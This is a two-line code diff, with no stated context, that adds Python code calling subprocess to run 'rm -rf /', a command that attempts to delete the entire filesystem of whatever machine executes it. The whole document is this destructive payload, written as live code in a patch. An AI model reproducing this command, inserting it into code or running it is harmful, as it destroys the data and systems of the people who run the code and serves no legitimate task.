@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run(['rm', '-rf', '/'])
